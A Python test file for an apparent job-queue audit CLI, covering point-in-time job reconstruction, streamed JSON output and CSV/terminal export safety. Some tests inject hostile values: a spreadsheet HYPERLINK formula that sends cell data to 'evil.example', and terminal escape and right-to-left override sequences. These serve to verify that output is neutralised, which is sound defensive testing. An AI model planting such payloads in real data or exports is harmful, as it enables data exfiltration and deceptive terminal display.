    h.claim(conn, "w-3", ["quick"])
    h.expire_lease(conn, expired["id"])
    moment = _instant_after(conn)
    tick(0.05)
    h.complete(conn, job, "w-1")
    h.sweep(conn)
    later = h.enqueue(conn, "search")
    with conn.transaction():  # the current row lies; the past does not move
        run(conn, "demo/exact_mode", on=True)
        conn.execute("update tool_jobs set owner_id = 'liar' where id = %s", (finished["id"],))
        run(conn, "demo/exact_mode", on=False)

    now_rows = h.js(invoke("jobs", "--json"))
    past = h.js(invoke("jobs", "--at", iso(moment), "--json"))
    assert set(past[0]) == {*now_rows[0], "as_of"}, "the keys of jobs --json, plus as_of"
    by_id = {r["id"]: r for r in past}
    assert str(later["id"]) not in by_id, "created after the instant: absent"
    r = by_id[str(running["id"])]
    assert (r["state"], r["owner_id"], r["fencing_token"], r["health"]) == ("running", "w-1", 1, "healthy")
    assert r["lease_left_seconds"] > 50 and r["heartbeat_at"] is None and r["agent_id"] == "planner-1"
    assert datetime.fromisoformat(r["as_of"]) == moment
    f = by_id[str(finished["id"])]
    assert (f["state"], f["owner_id"], f["health"]) == ("succeeded", "w-2", None), "how it finished"
    assert f["finished_at"] is not None
    x = by_id[str(expired["id"])]
    assert (x["state"], x["health"]) == ("running", "lease_expired") and x["lease_left_seconds"] < 0
    only = h.js(invoke("jobs", "--at", iso(moment), "--state", "running", "--json"))
    assert {row["id"] for row in only} == {str(running["id"]), str(expired["id"])}, "--state means then"
    assert h.js(invoke("jobs", "--at", iso(moment), "--owner", "liar", "--json")) == []
    human = invoke("jobs", "--at", iso(moment))
    assert human.exit_code == 0 and "as it was at" in human.output and "rebuilt from the history" in human.output
    assert invoke("jobs", "--at", "soonish").exit_code == 2
    future = invoke("jobs", "--at", "2999-01-01T00:00:00Z", "--json")
    assert future.exit_code == 2 and "in the future" in future.output and "[" not in future.stdout


def test_jobs_at_agrees_with_owner_at(cli, db):
    invoke, conn = cli
    e = h.enqueue(conn, "quick")
    h.claim(conn, "w-1", ["quick"])
    h.expire_lease(conn, e["id"])
    tick(0.05)
    job = h.claim(conn, "w-2", ["quick"])
    h.complete(conn, job, "w-2")
    with db.connect() as c:
        history = h.events(c, e["id"])
        expiry = datetime.fromisoformat(kind_of(c, e["id"], "reclaimed")["details"]["previous_lease_until"])
        instants = [expiry - timedelta(milliseconds=1), expiry + timedelta(milliseconds=1)]
        for event in history:
            instants += [event["at"], event["at"] + timedelta(milliseconds=1)]
        for at in instants:
            if True:
                rebuilt = audit_db.jobs_at(c, at)
                answer = audit_db.owner(c, e["id"], parse_time(at.isoformat()))
                live = rebuilt[0].state in ("running", "cancel_requested") and rebuilt[0].health != "lease_expired"
                assert (answer.owner_id is not None) == live, at



def test_jobs_at_reads_the_same_past_from_the_whole_history_as_call_by_call(cli, db):
    """More than 10,000 calls (or a filter on the rebuilt state) read the whole history in one scan
    instead of an index scan per call: both ways must rebuild the same past at every instant."""
    invoke, conn = cli
    _history(conn)
    running = h.enqueue(conn, "search")
    h.claim(conn, "w-3", ["search"])
    reported = h.enqueue(conn, "search")
    reporter = h.claim(conn, "w-6", ["search"])
    # a worker's own report of its request: the journal keeps state_to null on it
    h.record_event(conn, reporter, "tool_request_started", "w-6", details={"external_request_id": "req-77"})
    lapsed = h.enqueue(conn, "quick")
    h.claim(conn, "w-4", ["quick"])
    h.expire_lease(conn, lapsed["id"])
    tick(0.05)
    h.claim(conn, "w-5", ["quick"])
    h.cancel(conn, running["id"], "running", 1, operator="ana")
    with db.connect() as c:
        instants = sorted({e["at"] for e in c.execute("select at from job_events").fetchall()})
        instants += [instants[-1] + timedelta(milliseconds=1)]
        for at in instants:
            by_call = audit_db.jobs_at(c, at)
            whole = audit_db.jobs_at(c, at, limit=10_001)
            assert whole == by_call, at
            for state in {r.state for r in by_call}:
                chosen = audit_db.jobs_at(c, at, JobFilter(state=state))
                assert chosen == [r for r in by_call if r.state == state], (at, state)
        assert {r.state for r in whole} >= {"succeeded", "running", "cancel_requested", "queued"}, \
            "the history covers the states it should"
        # at the end, the rebuilt calls say what the rows say (the history is all there is then)
        now = {r.id: r for r in reads.jobs(c, limit=1000)}
        end = audit_db.jobs_at(c, audit_db.now(c), limit=10_001)
        for field in ("state", "owner_id", "fencing_token", "attempt", "external_request_id", "finished_at",
                      "side_effect_started_at", "cancel_requested_at", "retry_approved_by"):
            assert [getattr(r, field) for r in end] == [getattr(now[r.id], field) for r in end], field
        assert {r.external_request_id for r in end} >= {"ext-1", None}
        assert next(r for r in end if r.id == reported["id"]).external_request_id is None, \
            "a request the worker only reported never reached the row"
        unbounded = run(c, "audit/jobs_at", at=instants[-1], tool=None, agent=None, key_prefix=None, id_low=None,
                        id_high=None, model=None, provider=None, side_effect=None, state=None, owner=None,
                        health=None, before_created=None, before_id=None, limit=None)
        unbounded_calls = lines_as(JobAsOf, [r["line"] for r in unbounded])
        assert [r.id for r in unbounded_calls] == [r.id for r in whole]
        assert [r.state for r in unbounded_calls] == [r.state for r in whole], "a null limit reads the history too"


def _awkward_calls(conn) -> datetime:
    """Calls whose JSON is easy to get wrong: hostile and non-ASCII text in every kind of string
    column, a whole-second time, fractional and tiny lease sizes, a deadline, a live lease, a cancel,
    an approved retry, a forced terminal with a multi-line reason. Returns an instant after them."""
    h.register_tool(conn, "odd", "read_only", lease_seconds=90.5, heartbeat_seconds=0.125, missed_heartbeats=2,
                  jitter_seconds=0.00001, max_attempts=2, stage_timeout_seconds=1e-05)
    hostile = 'q"uo\\te\n\x1b[31mred\x7f \u202eevil\u202c é 🙂'
    h.enqueue(conn, "odd", key=f"k-{hostile}", agent_id=f"agent {hostile}", session_id="s\t1", model="m-é",
            provider="p\x01", deadline_at=datetime.now().astimezone() + timedelta(hours=3))
    job = h.claim(conn, f"w-{hostile}", ["odd"])
    h.start_side_effect(conn, job, f"w-{hostile}", request_id=f"req {hostile}")
    e2 = h.enqueue(conn, "search", payload={"big": "x" * 5000})
    running = h.claim(conn, "w-2", ["search"])
    h.cancel(conn, e2["id"], "running", running["fencing_token"], operator=f"ana {hostile}", reason=f"why\n{hostile}")
    e3 = h.enqueue(conn, "pay")
    paid = h.claim(conn, "w-3", ["pay"])
    h.start_side_effect(conn, paid, "w-3")
    h.report_unknown(conn, paid, "w-3")
    h.approve(conn, e3["id"], "outcome_unknown", paid["fencing_token"], operator="bo", reason="bank said no")
    e4 = h.enqueue(conn, "quick")
    h.claim(conn, "w-4", ["quick"])
    h.mark_terminal(conn, e4["id"], "running", 1, "failed", force=True, operator="cy", reason="line 1\nline 2\t\\")
    h.enqueue(conn, "quick", key="k-del\x7fx", agent_id="a\x7f")  # all ASCII, and print_json escapes DEL
    with conn.transaction():  # a whole second: pydantic writes no fraction then
        run(conn, "demo/exact_mode", on=True)
        conn.execute("update tool_jobs set created_at = date_trunc('second', created_at) where id = %s", (e4["id"],))
        run(conn, "demo/exact_mode", on=False)
    return _instant_after(conn)


def test_jobs_at_json_is_what_the_models_print_byte_for_byte(cli, db):
    """The server writes each call of `jobs --at --json` itself (no model per row); what it writes
    must be what the models print: the lines validated into JobAsOf and dumped by pydantic give the
    very same bytes, hostile text, whole seconds, tiny floats and every state included."""
    invoke, conn = cli
    _history(conn)
    moment = _awkward_calls(conn)
    with db.connect() as c:
        calls = audit_db.jobs_at(c, moment, limit=100)
        middle = audit_db.jobs_at(c, min(r.created_at for r in calls) + timedelta(microseconds=1), limit=100)
    assert {r.state for r in calls} >= {"succeeded", "running", "cancel_requested", "queued", "failed"}
    assert any(r.created_at.microsecond == 0 for r in calls) and any(r.deadline_left_seconds for r in calls)
    for instant, rows in ((moment, calls), (min(r.created_at for r in calls) + timedelta(microseconds=1), middle)):
        printed = invoke("jobs", "--at", iso(instant), "--json", "--limit", "100")
        assert printed.exit_code == 0, printed.output
        assert printed.stdout == json.dumps([r.model_dump(mode="json") for r in rows], ensure_ascii=True,
                                            indent=2) + "\n"
        assert printed.stdout.isascii() and "\x1b" not in printed.stdout and "\u202e" not in printed.stdout
    with db.connect() as c:  # at the end of the history the rebuild says what the rows say, value for value
        end = audit_db.jobs_at(c, audit_db.now(c), limit=100)
        rows = {r.id: r for r in reads.jobs(c, limit=100)}
    same = set(JobAsOf.model_fields) - {"heartbeat_at", "heartbeat_age_seconds", "lease_until", "lease_left_seconds",
                                        "deadline_left_seconds", "health", "db_now", "as_of"}
    for r in end:
        assert {f: getattr(r, f) for f in same} == {f: getattr(rows[r.id], f) for f in same}, r.id
    both_ways = invoke("jobs", "--at", iso(moment), "--json", "--limit", "100", "--state", "running")
    assert [r["id"] for r in json.loads(both_ways.stdout)] == [str(r.id) for r in calls if r.state == "running"]
    assert invoke("jobs", "--at", "2001-01-01T00:00:00Z", "--json").stdout == "[]\n", "as print_json writes []"


def test_jobs_at_json_times_are_utc_whatever_the_session_zone_and_date_style(cli, db):
    """Every time of `jobs --at --json` is UTC (`Z`), in a session in another zone too, and names the
    same instant `jobs --json` names there in that zone's offset; a server whose DateStyle is not
    ISO (psycopg reads no other) works as well."""
    invoke, conn = cli
    _history(conn)
    at = iso(_awkward_calls(conn))
    times = ("created_at", "claimed_at", "finished_at", "cancel_requested_at", "side_effect_started_at",
             "retry_approved_at", "deadline_at")
    utc = h.js(invoke("jobs", "--at", at, "--json", "--limit", "100"))
    for options in ("-c TimeZone=Asia/Kolkata", "-c DateStyle=SQL,DMY -c TimeZone=America/St_Johns",
                    "-c DateStyle=German"):
        other = make_conninfo(db.dsn, options=options)
        past = h.js(invoke("jobs", "--at", at, "--json", "--limit", "100", dsn=other))
        now_rows = {r["id"]: r for r in h.js(invoke("jobs", "--json", "--limit", "100", dsn=other))}
        assert past == utc, options
        checked = 0
        for r in past:
            for field in times:
                value = r[field]
                if value is None:
                    continue
                assert value.endswith("Z"), (field, value)
                assert datetime.fromisoformat(value) == datetime.fromisoformat(now_rows[r["id"]][field]), field
                checked += 1
        assert checked > 10 and any(r["cancel_requested_at"] for r in past) and any(r["retry_approved_at"]
                                                                                     for r in past)
        if "Kolkata" in options:
            assert any(v.endswith("+05:30") for v in (now_rows[i]["created_at"] for i in now_rows))


def test_jobs_at_json_to_a_full_disk_is_a_message_not_a_traceback(cli, db):
    invoke, conn = cli
    _history(conn)
    proc = subprocess.run(f"{sys.executable} -m console jobs --at 0s --json --dsn '{db.dsn}' > /dev/full",
                          shell=True, executable="/bin/bash", cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1, proc.stderr
    assert "No space left on device" in proc.stderr and "Traceback" not in proc.stderr


def test_jobs_at_json_streams_in_batches_and_only_it_goes_past_the_table_limit(cli, db):
    invoke, conn = cli
    for _ in range(7):
        h.enqueue(conn, "search")
    at = _instant_after(conn)
    sink = _RecordingSink()
    writes = sink.writes

    with db.connect() as c:
        seen: list[int] = []
        written = audit_db.write_jobs_at(c, sink, at, limit=100, batch=3, on_progress=seen.append)
        whole = audit_db.jobs_at(c, at, limit=100)
    assert written == 7 and len(writes) == 4 and seen == [3, 6, 7], "three batches and the closing bracket"
    assert "".join(writes) == json.dumps([r.model_dump(mode="json") for r in whole], indent=2) + "\n"
    many = invoke("jobs", "--at", iso(at), "--json", "--limit", "500000")
    assert many.exit_code == 0 and len(json.loads(many.stdout)) == 7
    for args in (("jobs", "--limit", "10001"), ("jobs", "--at", iso(at), "--limit", "10001"),
                 ("jobs", "--json", "--limit", "10001")):
        refused = invoke(*args)
        assert refused.exit_code == 2 and "at most 10,000" in refused.output and "[" not in refused.stdout
    assert invoke("jobs", "--at", iso(at), "--json", "--limit", "1000001").exit_code == 2


def test_a_closed_pipe_ends_jobs_at_json_with_a_message(cli, db):
    invoke, conn = cli
    for _ in range(40):
        h.enqueue(conn, "search", key=f"k-{'x' * 900}-{uuid.uuid4().hex}")
    proc = subprocess.run(f"{sys.executable} -m console jobs --at 0s --json --limit 100 --dsn '{db.dsn}' "
                          "| head -c 100 > /dev/null; exit ${PIPESTATUS[0]}", shell=True, executable="/bin/bash",
                          cwd=ROOT, capture_output=True, text=True, timeout=120, env={**os.environ, "COLUMNS": "200"})
    assert proc.returncode == 1, proc.stderr
    assert "closed the pipe" in proc.stderr and "incomplete" in proc.stderr and "Traceback" not in proc.stderr


def _instant_after(conn):
    """An instant after everything written so far, and before anything written next."""
    tick(0.05)
    return conn.execute("select now() as n").fetchone()["n"]


class _RecordingSink:
    """A text stream that keeps what it is given; past `broken_after` writes, a closed pipe."""

    def __init__(self, broken_after: int | None = None) -> None:
        self.writes: list[str] = []
        self.broken_after = broken_after

    def write(self, text: str) -> int:
        self.writes.append(text)
        if self.broken_after is not None and len(self.writes) > self.broken_after:
            raise BrokenPipeError(32, "Broken pipe")
        return len(text)


def _many_calls(conn, n: int) -> None:
    """n queued calls, fast: one INSERT (the triggers journal each)."""
    conn.execute("insert into tool_jobs (tool, idempotency_key, payload) "
                 "select 'search', 'k-many-' || g, '{}'::jsonb from generate_series(1, %s) g", (n,))


@pytest.mark.parametrize("fails", ["the sink", "the progress"])
def test_a_stream_stopped_midway_lets_go_of_the_connection(cli, db, fails):
    """An error while rows are still streaming (a closed pipe met by the writer, Ctrl-C) must end the
    statement and the transaction: a suspended stream holds the connection's lock, and leaving the
    transaction waited for it forever."""
    invoke, conn = cli
    _many_calls(conn, 20)
    at = _instant_after(conn)
    closed_pipe = _RecordingSink(broken_after=1 if fails == "the sink" else None)
    writes = closed_pipe.writes

    def progress(count: int) -> None:
        if fails == "the progress" and count > 3:
            raise KeyboardInterrupt

    outcome: list[BaseException] = []
    c = db.connect()  # not closed on failure: closing a connection whose lock is held would hang too

    def stream() -> None:
        try:
            audit_db.write_jobs_at(c, closed_pipe, at, limit=100, batch=3, on_progress=progress)
        except BaseException as exc:  # noqa: BLE001 - what the thread met is the finding
            outcome.append(exc)

    thread = threading.Thread(target=stream, daemon=True)
    thread.start()
    thread.join(20)
    assert not thread.is_alive(), "the stream hung after the error"
    assert isinstance(outcome[0], BrokenPipeError if fails == "the sink" else KeyboardInterrupt)
    assert len(writes) == 2
    assert c.execute("select 1 as one").fetchone()["one"] == 1, "the connection is free again"
    c.close()


def test_jobs_at_json_cut_midway_says_so_and_leaves_nothing_running(cli, db):
    """More calls than a batch (2,000), so the cut meets a stream still running: `| head -c 10`, a full
    disk, SIGINT and SIGTERM each end the command with a message and exit 1, in seconds, and no query
    of it is left on the server."""
    invoke, conn = cli
    _many_calls(conn, 6_000)
    base = f"{sys.executable} -m console jobs --at 0s --json --limit 6000 --dsn '{db.dsn}'"
    for shell, said in ((f"{base} | head -c 10 > /dev/null; exit ${{PIPESTATUS[0]}}", "closed the pipe"),
                        (f"{base} > /dev/full", "No space left on device")):
        done = subprocess.run(shell, shell=True, executable="/bin/bash", cwd=ROOT, capture_output=True, text=True,
                              timeout=60)
        assert done.returncode == 1 and said in done.stderr and "Traceback" not in done.stderr, done.stderr
    for sig in (signal.SIGINT, signal.SIGTERM):
        proc = subprocess.Popen([sys.executable, "-m", "console", "jobs", "--at", "0s", "--json", "--limit", "6000",
                                 "--dsn", db.dsn], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        assert proc.stdout is not None
        proc.stdout.read(10)  # it is streaming; nobody reads the rest
        proc.send_signal(sig)
        _, error = proc.communicate(timeout=60)
        assert proc.returncode == 1 and b"interrupted" in error and b"Traceback" not in error, error
    # A cancelled backend takes a moment to say so (longer on a loaded machine); a query left behind
    # would stay: the stream has no statement timeout and nobody reads it. Client backends only: the
    # 6,000 calls just written wake autovacuum, whose worker is 'active' on this database too.
    def left() -> list[dict]:
        return conn.execute("select pid, query from pg_stat_activity where datname = current_database() "
                            "and backend_type = 'client backend' and state = 'active' "
                            "and pid <> pg_backend_pid()").fetchall()

    deadline = time.monotonic() + 60  # a query left behind stays for good: a minute tells them apart
    while left() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert left() == [], "a query of the command is still running on the server"


# ----------------------------------------------------------------------------- the auditor


def test_everything_works_as_an_auditor_login_and_under_read_only(cli, db, logins, tmp_path):
    invoke, conn = cli
    made = _history(conn)
    dsn = make_conninfo(db.dsn, user=AUDITOR)
    with psycopg.connect(dsn) as probe:
        assert probe.execute("select current_user").fetchone()[0] == AUDITOR  # type: ignore[index]
    job = str(made[0]["id"])
    for prefix in ((), ("--read-only",)):
        for args in (("audit", "owner", job, "--at", "1s", "--json"), ("audit", "actions", "--json"),
                     ("audit", "verify", "--json"), ("audit", "export", "--format", "csv"),
                     ("jobs", "--at", "1s", "--json")):
            result = invoke(*prefix, *args, dsn=dsn)
            assert result.exit_code == 0, (prefix, args, result.output)
        target = tmp_path / f"audit{len(prefix)}.jsonl"
        assert invoke(*prefix, "audit", "export", "--output", str(target), dsn=dsn).exit_code == 0
        assert len(target.read_text().splitlines()) == conn.execute("select count(*) as n from job_events"
                                                                    ).fetchone()["n"]
        assert invoke(*prefix, "audit", "owner", job, "--at", "1s").exit_code == 0
    # the superuser under --read-only reads as leasectl_auditor, in a read-only session
    assert invoke("--read-only", "audit", "verify").exit_code == 0


# ----------------------------------------------------------------------------- the screen's grammar


def test_the_audit_filter_grammar():
    now = datetime.fromisoformat("2026-07-23T21:14:00+00:00")
    f = parse_audit_filter("job:8f1b at:2026-07-23T21:13:35Z owner:w-3 kind:claimed since:1h", now=now)
    assert (f.job, f.owner, f.kind) == ("8f1b", "w-3", "claimed")
    assert f.at == datetime.fromisoformat("2026-07-23T21:13:35+00:00") and f.since == now - timedelta(hours=1)
    assert f.upto == f.at and f.describe().startswith("job:8f1b")
    assert parse_audit_filter("8f1b", now=now).job == "8f1b", "a bare word is a call-id prefix"
    assert parse_audit_filter("", now=now) == AuditFilter()
    for bad, words in (("state:running", "unknown filter key"), ("owner:", "nothing after"),
                       ("since:1h until:2h", "since: "), ("at:soon", "ISO 8601"), ("kind:Bad-Kind", "event kind"),
                       ("w-3", "not a call-id prefix"), ("job:1 job:2", "given twice"),
                       ("at:2026-07-23T21:15:00Z", "in the future")):
        with pytest.raises(BadInput) as info:
            parse_audit_filter(bad, now=now)
        assert words in str(info.value), (bad, str(info.value))
        assert "audit filter keys" in (info.value.hint or ""), "the grammar is shown"


def test_screen_page_answers_who_held_it_on_top(cli):
    invoke, conn = cli
    e = h.enqueue(conn, "search")
    h.claim(conn, "w-9", ["search"])
    claimed = kind_of(conn, e["id"], "claimed")
    f = parse_audit_filter(f"job:{str(e['id'])[:8]} at:{claimed['at'].isoformat()}")
    page = audit_db.screen_page(conn, f)
    assert page.owner is not None and page.owner.owner_id == "w-9"
    assert [ev.kind for ev in page.events] == ["claimed", "enqueued"], "newest first"
    journal = audit_db.screen_page(conn, parse_audit_filter(""), view="journal")
    assert journal.actions == [] and journal.owner is None
    unknown = audit_db.screen_page(conn, parse_audit_filter("job:ffffffff"))
    assert unknown.problem and "no call" in unknown.problem and unknown.events == [], "said, not a failed poll"


def test_export_to_a_terminal_is_ascii_and_csv_drops_escapes(cli):
    invoke, conn = cli
    e = h.enqueue(conn, "search")
    h.claim(conn, "w-\u202e\u009b31m", ["search"])
    out = io.StringIO()
    audit_db.export(conn, out, job_id=e["id"])
    assert out.getvalue().isascii() and "\\u202e" in out.getvalue(), "exact, escaped"
    assert json.loads(out.getvalue().splitlines()[1])["owner_to"] == "w-\u202e\u009b31m"
    shown = io.StringIO()
    audit_db.export(conn, shown, fmt="csv", job_id=e["id"], for_terminal=True)
    assert "\u202e" not in shown.getvalue() and "\u009b" not in shown.getvalue()


def test_csv_cells_that_start_like_a_formula_are_shown_as_text_and_jsonl_stays_exact(cli, tmp_path):
    invoke, conn = cli
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    e = h.enqueue(conn, "search")
    h.claim(conn, formula, ["search"])  # a worker id is whatever the client claimed
    h.cancel(conn, e["id"], "running", 1, operator="@SUM(1+1)", reason="-1+1")
    target = tmp_path / "history.csv"
    assert invoke("audit", "export", "--format", "csv", "--output", str(target)).exit_code == 0
    with target.open(newline="") as f:
        table = list(csv.reader(f))
    cells = [cell for row in table[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), "no cell a spreadsheet would run"
    assert "'" + formula in cells and "'@SUM(1+1)" in cells
    lines = tmp_path / "history.jsonl"
    assert invoke("audit", "export", "--output", str(lines)).exit_code == 0
    events = [json.loads(line) for line in lines.read_text().splitlines()]
    assert formula in [ev["owner_to"] for ev in events] and "@SUM(1+1)" in [ev["actor"] for ev in events]
    # reversible: one leading apostrophe dropped gives back every value, one that had its own included
    assert audit_db.spreadsheet_safe("'quoted") == "''quoted" and audit_db.spreadsheet_safe("w-1") == "w-1"


def test_a_range_starting_in_the_future_is_bad_input(cli):
    invoke, conn = cli
    h.enqueue(conn, "search")
    for args in (("audit", "export", "--since", "2999-01-01T00:00:00Z"),
                 ("audit", "actions", "--since", "2999-01-01T00:00:00Z"),
                 ("audit", "verify", "--since", "2999-01-01T00:00:00Z")):
        result = invoke(*args)
        assert result.exit_code == 2 and "--since" in result.output and "in the future" in result.output, args
    assert invoke("audit", "export", "--until", "2999-01-01T00:00:00Z").exit_code == 0, "an end ahead is fine"
    with pytest.raises(BadInput, match="since: .* in the future"):
        parse_audit_filter("since:2999-01-01T00:00:00Z", now=audit_db.now(conn))


def test_the_words_never_carry_hostile_text_to_the_terminal(cli):
    invoke, conn = cli
    hostile = "\x1b]2;PWNED\x07\x1b[31m\u202egnp.exe"
    e = h.enqueue(conn, "search")
    h.claim(conn, f"w{hostile}", ["search"])
    h.cancel(conn, e["id"], "running", 1, operator=f"op{hostile}", reason=f"why{hostile}")
    for args in (("audit", "owner", str(e["id"]), "--at", "0.001s"), ("audit", "actions"), ("audit", "verify")):
        result = invoke(*args)
        assert result.exit_code == 0 and "\x1b" not in result.output and "\u202e" not in result.output, args
    assert "\\x1b" in invoke("audit", "actions").output, "shown as a visible escape"


def test_a_progress_bar_on_a_terminal_and_nothing_on_a_pipe(cli, tmp_path, monkeypatch):
    from console.operator.cli import audit as audit_cli
    from console.operator.cli.common import TerminalConsole

    invoke, conn = cli
    _many_events(conn, 6_000)
    screen = io.StringIO()
    monkeypatch.setattr(audit_cli, "err", TerminalConsole(file=screen, force_terminal=True, width=100, highlight=False))
    target = tmp_path / "out.jsonl"
    assert invoke("audit", "export", "--output", str(target)).exit_code == 0
    shown = screen.getvalue()
    assert "exporting" in shown and "6001/6001" in shown and "wrote 6,001 events" in shown, shown[-500:]
    assert len(target.read_text().splitlines()) == 6_001


def test_the_screen_page_and_its_export_select_the_same_events_for_every_filter(cli):
    """One filter (leasectl_audit_event_matches, migrations/0019_audit_rules.sql) for the Audit
    screen's page, the export's count and its rows: for each key alone and combined, the three agree,
    and each selects what the key means."""
    invoke, conn = cli
    a, b = h.enqueue(conn, "search"), h.enqueue(conn, "search")
    h.claim(conn, "w-1", ["search"])
    h.claim(conn, "w-2", ["search"])
    h.cancel(conn, a["id"], "running", 1, operator="alice", reason="user left")
    h.cancel(conn, b["id"], "running", 9, operator="bob", reason="stale look")  # refused: wrong token
    middle = audit_db.now(conn)
    h.mark_terminal(conn, b["id"], "running", 1, "failed", force=True, operator="alice", reason="hung")

    def chosen(**kw: object) -> list[int]:
        page = audit_db.events_page(conn, AuditFilter(**{k: v for k, v in kw.items() if k != "job_id"}),
                                    job_id=kw.get("job_id"), limit=1000)  # type: ignore[arg-type]
        out = io.StringIO()
        told = audit_db.export(conn, out, **kw)  # type: ignore[arg-type]
        exported = [json.loads(line)["id"] for line in out.getvalue().splitlines()]
        assert sorted(e.id for e in page) == exported and told["events"] == len(exported), kw
        return exported

    every = chosen()
    events = {row["id"]: row for row in conn.execute("select * from job_events").fetchall()}
    assert sorted(events) == every
    assert chosen(job_id=a["id"]) == sorted(i for i, e in events.items() if e["job_id"] == a["id"])
    assert chosen(owner="w-2") == sorted(i for i, e in events.items() if "w-2" in (e["owner_to"], e["owner_from"],
                                                                                      e["actor"]))
    alice = chosen(operator="alice")
    assert [events[i]["kind"] for i in alice] == ["operator_cancel", "operator_mark_terminal"]
    assert [events[i]["kind"] for i in chosen(operator="bob")] == ["operator_cancel"], "a refusal is journaled too"
    assert chosen(kind="claimed") == sorted(i for i, e in events.items() if e["kind"] == "claimed")
    assert chosen(since=middle) == sorted(i for i, e in events.items() if e["at"] >= middle)
    assert chosen(until=middle) == sorted(i for i, e in events.items() if e["at"] <= middle)
    assert chosen(operator="alice", job_id=b["id"], since=middle) == alice[1:]
    assert chosen(operator="w-1") == [], "a worker's events are not an operator's actions"


def test_the_operator_kinds_are_the_actions_table_s(conn):
    kinds = [r["kind"] for r in conn.execute("select distinct kind from job_events").fetchall()]
    for kind in {*ownership.OPERATOR_KINDS, *ownership.CHANGE_KINDS, *ownership.REQUEST_KINDS, *kinds, "enqueued"}:
        said = conn.execute("select leasectl_is_operator_event(%s) as yes", (kind,)).fetchone()["yes"]
        assert said == (kind in ownership.OPERATOR_KINDS), kind
